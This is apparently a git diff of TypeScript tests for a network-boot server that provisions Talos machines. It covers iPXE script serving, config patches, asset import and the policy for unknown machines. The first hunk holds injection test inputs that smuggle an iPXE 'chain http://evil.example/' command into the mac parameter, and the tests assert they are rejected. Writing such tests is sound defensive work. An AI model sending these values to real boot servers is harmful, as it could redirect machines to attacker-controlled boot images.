@@ -94,9 +94,11 @@ describe('boot flow over HTTP', () => {
       assert.equal(r.status, 400, JSON.stringify(evil));
       assert.doesNotMatch(r.text, /evil|\$\{/);
     }
-    const raw = await get(heph.url, '/ipxe?mac=52-54-00-12-34-56%0Achain%20http://evil.example/');
-    assert.equal(raw.status, 400);
-    assert.doesNotMatch(raw.text, /evil/);
+    for (const raw of ['/ipxe?mac=52-54-00-12-34-56%0Achain%20http://evil.example/', '/ipxe?mac=52-54-00-12-34-56&evil%0Achain=1', '/ipxe?mac=52-54-00-12-34-56&mac=evil']) {
+      const r = await get(heph.url, raw);
+      assert.equal(r.status, 400, raw);
+      assert.doesNotMatch(r.text, /evil|chain/);
+    }
     assert.equal((await get(heph.url, '/ipxe', { method: 'HEAD' })).status, 405);
   });
 
@@ -131,8 +133,16 @@ describe('boot flow over HTTP', () => {
     assert.ok(!served.detail.includes(token));
     assert.equal(served.machine_id, machine().id);
     assert.equal(machine().state, 'config-served');
-    const docs = parseAllDocuments(ok.text) as unknown as { toJS(): Record<string, unknown> }[];
-    assert.equal((docs[0]!.toJS() as { version: string }).version, 'v1alpha1');
+    const docs = (parseAllDocuments(ok.text) as unknown as { toJS(): Record<string, unknown> }[]).map((d) => d.toJS());
+    const v1 = docs[0] as { version: string; machine: { install: { disk: string; wipe: boolean }; time: { servers: string[] }; sysctls: Record<string, string> } };
+    assert.equal(v1.version, 'v1alpha1');
+    assert.equal(v1.machine.install.disk, '/dev/vda', 'the profile install disk is applied');
+    assert.equal(v1.machine.install.wipe, false);
+    assert.deepEqual(v1.machine.time.servers, ['192.0.2.123'], 'the file patch is applied');
+    assert.equal(v1.machine.sysctls['vm.nr_hugepages'], '0', 'the inline patch is applied');
+    assert.ok(docs.some((d) => d.kind === 'EventSinkConfig'), 'the events documents are added');
+    assert.ok(!ok.text.includes(token));
+    assert.match(r.text, / talos\.events\.sink=\S+ talos\.logging\.kernel=tcp:\/\/\S+\/ /);
 
     const again = await get(heph.url, path);
     assert.equal(again.status, 200, 'Talos retries from the same IP');
@@ -182,6 +192,7 @@ describe('boot flow over HTTP', () => {
     const cfg = await get(heph.url, path);
     assert.equal(cfg.status, 200);
     assert.equal(machine().reprovision, false, 'served once: the flag is spent');
+    assert.equal((parseAllDocuments(cfg.text) as unknown as { toJS(): { machine: { install: { wipe: boolean } } } }[])[0]!.toJS().machine.install.wipe, true);
     assert.match(audits('config.served').at(-1)!.detail, /"wipe":true/);
   });
 
@@ -193,8 +204,7 @@ describe('boot flow over HTTP', () => {
     const r = await get(heph.url, path);
     assert.ok(r.status >= 500, `status ${r.status}`);
     assert.doesNotMatch(r.text, /NotTalos/);
-    ctx.machines.update(machine().id, { profile: null as unknown as string });
-    ctx.db.prepare('UPDATE machines SET profile = NULL WHERE id = ?').run(machine().id);
+    ctx.machines.update(machine().id, { profile: null });
   });
 
   test('if the audit row cannot be committed, the config is not sent', async () => {
@@ -280,6 +290,50 @@ describe('asset import', () => {
       assert.equal((heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM assets').get() as { n: number }).n, 0);
     } finally {
       rel.remove();
+      await heph.stop();
+    }
+  });
+});
+
+describe('policy for machines nobody accepted', () => {
+  test('discover-only boots Talos into maintenance mode: kernel and initrd, never a config URL or a token', async () => {
+    const heph = await inProcessHeph({ profiles: { dir: join(REPO, 'test/fixtures/profiles') }, boot: { unknownMachines: 'discover-only' } });
+    const rel = tempDir('heph-release-');
+    try {
+      const k = randomBytes(4096);
+      const i = randomBytes(4096);
+      const sum = (b: Buffer): string => createHash('sha512').update(b).digest('hex');
+      writeFileSync(join(rel.path, 'vmlinuz-amd64'), k);
+      writeFileSync(join(rel.path, 'initramfs-amd64.xz'), i);
+      writeFileSync(join(rel.path, 'sha512sum.txt'), `${sum(k)}  vmlinuz-amd64\n${sum(i)}  initramfs-amd64.xz\n`);
+      await importRelease({ db: heph.daemon.ctx.db, dataDir: heph.daemon.ctx.dataDir, source: rel.path, version: 'v1.13.9' });
+      // DHCP saw the NIC first; the script request merges into the same record.
+      const { machine: seen } = heph.daemon.ctx.machines.resolve({ mac: MAC, vendorClass: 'PXEClient:Arch:00007:UNDI:003010' });
+      const r = await get(heph.url, q({ platform: 'pcbios' }));
+      assert.equal(r.status, 200);
+      assert.match(r.text, /^kernel --name vmlinuz \S+ talos\.platform=metal /m);
+      assert.match(r.text, /maintenance mode/);
+      assert.doesNotMatch(r.text, /talos\.config|initrd=initramfs/);
+      assert.equal((heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM boot_tokens').get() as { n: number }).n, 0);
+      const m = heph.daemon.ctx.machines.findByMac(MAC)!;
+      assert.equal(m.id, seen.id);
+      assert.deepEqual([m.uuid, m.vendorClass, m.acceptance], [UUID, 'PXEClient:Arch:00007:UNDI:003010', 'pending']);
+    } finally {
+      rel.remove();
+      await heph.stop();
+    }
+  });
+
+  test('a profiles.dir that cannot be read stops startup with a fix', async () => {
+    await assert.rejects(inProcessHeph({ profiles: { dir: '/nonexistent/heph-profiles' } }), (err: Error & { hint?: string }) => /profiles\.dir: \/nonexistent\/heph-profiles cannot be read: ENOENT/.test(err.message) && /profiles\.dir/.test(err.hint ?? ''));
+  });
+
+  test('ignore sends unknown machines on to their next boot device', async () => {
+    const heph = await inProcessHeph({ boot: { unknownMachines: 'ignore', localBoot: 'sanboot' } });
+    try {
+      const r = await get(heph.url, q());
+      assert.equal(r.text, '#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n');
+    } finally {
       await heph.stop();
     }
   });
